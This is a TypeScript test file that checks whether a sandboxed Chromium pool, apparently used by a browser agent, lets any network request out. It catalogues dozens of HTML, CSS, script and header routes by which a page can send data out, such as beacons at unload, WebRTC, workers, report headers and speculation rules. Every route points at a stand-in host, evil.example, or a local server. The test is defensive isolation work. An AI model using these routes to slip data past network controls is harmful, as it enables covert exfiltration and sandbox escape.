/**
 * Every way out that a page may try, each to a name and to a real server of this machine. What the browser itself
 * connects to and resolves is read from its own network log.
 */

import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, expect, it } from "vitest";
import { launchBrowser, browserInfo } from "./launch.ts";
import { BrowserPool } from "./pool.ts";
import { html, open, pages } from "./test-support.ts";

const reached: string[] = [];
const server = createServer((req, res) => {
  reached.push(req.url ?? "");
  res.writeHead(200, { "access-control-allow-origin": "*" }).end();
});
server.on("connect", (req, socket) => {
  reached.push(`CONNECT ${req.url}`);
  socket.destroy();
});
let directory: string;
let port = 0;
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  directory = await mkdtemp(join(tmpdir(), "escape-"));
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await rm(directory, { recursive: true, force: true });
});

/** In each, `{url}` and `{name}` are replaced by an address of its own: once at a name, and once on this machine. */
const MARKUP: Record<string, string> = {
  image: `<img src="{url}">`,
  "image candidates": `<img srcset="{url} 1x, {url}?2 2x">`,
  "picture source": `<picture><source srcset="{url}"><img></picture>`,
  "input image": `<input type=image src="{url}">`,
  script: `<script src="{url}"></script>`,
  "module script": `<script type=module src="{url}"></script>`,
  "import map": `<script type=importmap>{"imports":{"outside-{name}":"{url}"}}</script><script type=module>import("outside-{name}").catch(() => {})</script>`,
  stylesheet: `<link rel=stylesheet href="{url}">`,
  "style import": `<style>@import "{url}";</style>`,
  "style background": `<div style="width:9px;height:9px;background:url({url})"></div>`,
  "style cursor and list": `<ul style="cursor:url({url}),auto;list-style-image:url({url})"><li>x</ul>`,
  "style mask and content": `<div style="width:9px;height:9px;mask-image:url({url});content:url({url})"></div>`,
  "shape outside": `<div style="float:left;shape-outside:url({url})"></div>`,
  font: `<style>@font-face { font-family: {name}; src: url({url}) }</style><p style="font-family:{name}">font</p>`,
  frame: `<iframe src="{url}"></iframe>`,
  "frame srcdoc": `<iframe srcdoc="<img src='{url}'>"></iframe>`,
  "frame data": `<iframe src="data:text/html,<img src='{url}'>"></iframe>`,
  "frame refresh": `<iframe srcdoc="<meta http-equiv=refresh content='0;url={url}'>"></iframe>`,
  "frame javascript": `<iframe src="javascript:'<img src={url}>'"></iframe>`,
  "sandboxed frame": `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{url}')</script>"></iframe>`,
  object: `<object data="{url}"></object>`,
  embed: `<embed src="{url}">`,
  video: `<video src="{url}" poster="{url}?poster"></video>`,
  audio: `<audio src="{url}" preload=auto></audio>`,
  track: `<video><track default src="{url}"></video><script>document.querySelector("track").track.mode = "showing"</script>`,
  "SVG image": `<svg><image href="{url}"/></svg>`,
  "SVG use": `<svg><use href="{url}#a"/></svg>`,
  "SVG filter": `<svg><filter id={name}><feImage href="{url}"/></filter><rect width=9 height=9 filter="url(#{name})"/></svg>`,
  "MathML link": `<math><mi href="{url}">x</mi></math>`,
  icon: `<link rel=icon href="{url}">`,
  manifest: `<link rel=manifest href="{url}">`,
  preload: `<link rel=preload as=image href="{url}">`,
  prefetch: `<link rel=prefetch href="{url}">`,
  modulepreload: `<link rel=modulepreload href="{url}">`,
  preconnect: `<link rel=preconnect href="{url}">`,
  "DNS prefetch": `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="{url}"><a href="{url}">a</a>`,
  prerender: `<link rel=prerender href="{url}">`,
  "speculation rules": `<script type=speculationrules>{"prefetch":[{"urls":["{url}"]}],"prerender":[{"urls":["{url}?2"]}]}</script>`,
  "browsing topics frame": `<iframe browsingtopics credentialless src="{url}"></iframe>`,
  "fenced frame": `<fencedframe></fencedframe><script>try { document.querySelector("fencedframe").config = new FencedFrameConfig("{url}") } catch {}</script>`,
  portal: `<portal src="{url}"></portal>`,
  "attribution source": `<img attributionsrc="{url}" src="data:,">`,
  "XSL stylesheet": `<script>try { const x = new XSLTProcessor(); const d = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="{url}"/><xsl:template match="/"><xsl:copy-of select="document(\\'{url}?2\\')"/></xsl:template></xsl:stylesheet>', "text/xml"); x.importStylesheet(d); x.transformToDocument(document) } catch {}</script>`,
};
const SCRIPT: Record<string, string> = {
  fetch: `fetch("{url}", { mode: "no-cors" })`,
  "fetch keepalive": `fetch("{url}", { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`,
  "fetch at unload": `addEventListener("pagehide", () => fetch("{url}", { mode: "no-cors", keepalive: true }))`,
  "beacon at unload": `addEventListener("unload", () => navigator.sendBeacon("{url}", "x"))`,
  "fetch later": `typeof fetchLater === "function" && fetchLater("{url}", { activateAfter: 0 })`,
  XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open("GET", "{url}"); x.send() })()`,
  beacon: `navigator.sendBeacon("{url}", "x")`,
  EventSource: `new EventSource("{url}").onerror = (e) => e.target.close()`,
  WebSocket: `new WebSocket("{url}".replace("http", "ws")).onerror = () => {}`,
  WebSocketStream: `typeof WebSocketStream === "function" && new WebSocketStream("{url}".replace("http", "ws")).opened.catch(() => {})`,
  WebTransport: `new WebTransport("{url}".replace("http:", "https:")).ready.catch(() => {})`,
  WebRTC: `(async () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL("{url}").host }] }); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()) })().catch(() => {})`,
  "blob worker": `new Worker(window.URL.createObjectURL(new Blob(["fetch('{url}',{mode:'no-cors'}).catch(()=>{}); try { importScripts('{url}?2') } catch {}"])))`,
  "data worker": `new Worker("data:text/javascript,fetch('{url}',{mode:'no-cors'}).catch(()=>{})")`,
  "shared worker": `new SharedWorker(window.URL.createObjectURL(new Blob(["fetch('{url}',{mode:'no-cors'}).catch(()=>{})"])))`,
  worklet: `CSS.paintWorklet?.addModule("{url}").catch(() => {}); new AudioContext().audioWorklet?.addModule("{url}?2").catch(() => {})`,
  "dynamic import": `import("{url}").catch(() => {})`,
  "form to a frame": `document.body.insertAdjacentHTML("beforeend", '<iframe name={name}></iframe><form id=f-{name} target={name} method=post action="{url}"><input name=a></form>'); document.getElementById("f-{name}").submit()`,
  "window open": `window.open("{url}", "", "noopener")`,
  "written window": `window.open("about:blank")?.document.write("<img src='{url}'>")`,
  ping: `(() => { const a = document.createElement("a"); a.href = "#{name}"; a.ping = "{url}"; document.body.append(a); a.click() })()`,
  "download link": `(() => { const a = document.createElement("a"); a.href = "{url}"; a.download = "x"; document.body.append(a); a.click() })()`,
  "image constructor": `new Image().src = "{url}"`,
  "image decode": `createImageBitmap(Object.assign(new Image(), { src: "{url}" })).catch(() => {})`,
  "cache add": `window.caches?.open("x").then((c) => c.add("{url}")).catch(() => {})`,
  "payment method": `(async () => { await new PaymentRequest([{ supportedMethods: "{url}".replace("http:", "https:") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment() })().catch(() => {})`,
  "notification icon": `try { new Notification("x", { icon: "{url}" }) } catch {}`,
  "media session artwork": `navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: "{url}" }] })`,
  "shared storage": `window.sharedStorage?.worklet.addModule("{url}").catch(() => {})`,
  "interest group": `navigator.joinAdInterestGroup?.({ owner: location.origin, name: "x", biddingLogicURL: "{url}" }, 9)?.catch?.(() => {})`,
  "identity provider": `navigator.credentials?.get({ identity: { providers: [{ configURL: "{url}".replace("http:", "https:"), clientId: "x" }] } }).catch(() => {})`,
};
const headers = (url: string) => ({
  "content-security-policy-report-only": `default-src 'none'; report-uri ${url}/csp`,
  "content-security-policy": `img-src *; report-uri ${url}/csp2`,
  "reporting-endpoints": `default="${url}/reports"`,
  "report-to": JSON.stringify({ group: "default", max_age: 100, endpoints: [{ url: `${url}/report-to` }] }),
  nel: JSON.stringify({ report_to: "default", max_age: 100, success_fraction: 1, failure_fraction: 1 }),
  link: `<${url}/linked>; rel=preload; as=image, <${url}/linked2>; rel=preconnect, <${url}/style>; rel=stylesheet`,
  "speculation-rules": `"${url}/rules"`,
  sourcemap: `${url}/map`,
  refresh: `600; url=${url}/refresh`,
  "accept-ch": "Sec-CH-UA-Full-Version-List",
});

interface Route {
  name: string;
  text: string;
  isScript: boolean;
}
const routes: Route[] = [
  ...Object.entries(MARKUP).map(([name, text]) => ({ name, text, isScript: false })),
  ...Object.entries(SCRIPT).map(([name, text]) => ({ name, text, isScript: true })),
];
const slug = (name: string) => name.toLowerCase().replace(/\W+/g, "-");

/** Chromium with a log of what its network does. */
async function loggingBrowser(log: string): Promise<string> {
  // Unpacks the browser if that was not done before.
  await (await launchBrowser()).close();
  const { location } = await browserInfo();
  const path = join(directory, "browser.sh");
  await writeFile(path, `#!/bin/sh\nexec "${location}" --log-net-log="${log}" "$@"\n`);
  await chmod(path, 0o755);
  return path;
}

interface NetLog {
  constants: { logEventTypes: Record<string, number> };
  events: { type: number; params?: { address?: string; host?: string } }[];
}

/** The parameters of all events of a type. */
function eventsOf({ constants, events }: NetLog, type: string) {
  const number = constants.logEventTypes[type];
  expect({ type, isKnown: number !== undefined }).toEqual({ type, isKnown: true });
  return events.flatMap((event) => (event.type === number && event.params ? [event.params] : []));
}

function pageOf(some: readonly Route[], to: (kind: string) => string): string {
  const fill = ({ name, text }: Route) =>
    text.replaceAll("{url}", to(slug(name))).replaceAll("{name}", slug(name));
  // Each has its own script, so that one that fails does not stop the others.
  const parts = some.map((route) =>
    route.isScript ? `<script>addEventListener("load", () => { ${fill(route)} })</script>` : fill(route),
  );
  return `<p>tries</p>${parts.join("\n")}<a href=/next>Next</a>`;
}

it.runIf(process.platform === "linux")(
  `none of ${routes.length} routes and ${Object.keys(headers("")).length} headers leads out`,
  async () => {
    const log = join(directory, "net.json");
    const pool = new BrowserPool({ executable: await loggingBrowser(log) });
    const proxies = new Set<string>();
    const openContext = pool.openContext.bind(pool);
    pool.openContext = async (world) => {
      const opened = await openContext(world);
      proxies.add(`127.0.0.1:${opened.network.port}`);
      return opened;
    };
    const refused = new Set<string>();
    const targets = [
      (kind: string) => `http://${kind}.evil.example/x`,
      (kind: string) => `http://127.0.0.1:${port}/${kind}`,
    ];
    for (const to of targets)
      // A few at a time, so that a route that stops its page does not hide the others.
      for (let from = 0; from < routes.length; from += 6) {
        const page = pageOf(routes.slice(from, from + 6), to);
        const app = pages({
          "/": () => html(page, { headers: headers(to("header")) }),
          "/next": "<p>next",
        });
        await using test = await open(pool, app, { limits: { settleMs: 1000, waitMs: 500 } });
        await test.act('do(action="Wait")');
        await test.act('do(action="Switch Tab", argument="0")');
        const { elements } = await test.act('do(action="Wait")');
        if (elements.some(({ name }) => name === "link Next"))
          await test.act('do(action="Click", element="link Next")');
        await sleep(200);
        for (const host of Object.keys(test.episode.countBlockedHosts()))
          refused.add(host.replace(/:443$/, ""));
      }
    await pool[Symbol.asyncDispose]();

    expect(reached).toEqual([]);
    const net = JSON.parse(await readFile(log, "utf8")) as NetLog;
    // There are connections to the proxies, and no others.
    const connections = new Set(eventsOf(net, "TCP_CONNECT_ATTEMPT").flatMap(({ address }) => address ?? []));
    expect([...connections].filter((address) => !proxies.has(address))).toEqual([]);
    expect(connections.size).toBeGreaterThan(1);
    // A socket that is connected and never used tells Chromium whether there is IPv6.
    expect(eventsOf(net, "UDP_BYTES_SENT")).toEqual([]);
    for (const type of ["HOST_RESOLVER_MANAGER_JOB", "HOST_RESOLVER_SYSTEM_TASK", "DNS_TRANSACTION"])
      expect({ type, events: eventsOf(net, type) }).toEqual({ type, events: [] });
    // Most were tried and refused by the proxy; the rest did not even leave the page, either in this browser or in any
    // headless one.
    const tried = routes.filter(({ name }) => refused.has(`${slug(name)}.evil.example`));
    expect(tried.length).toBeGreaterThan(40);
  },
  300_000,
);
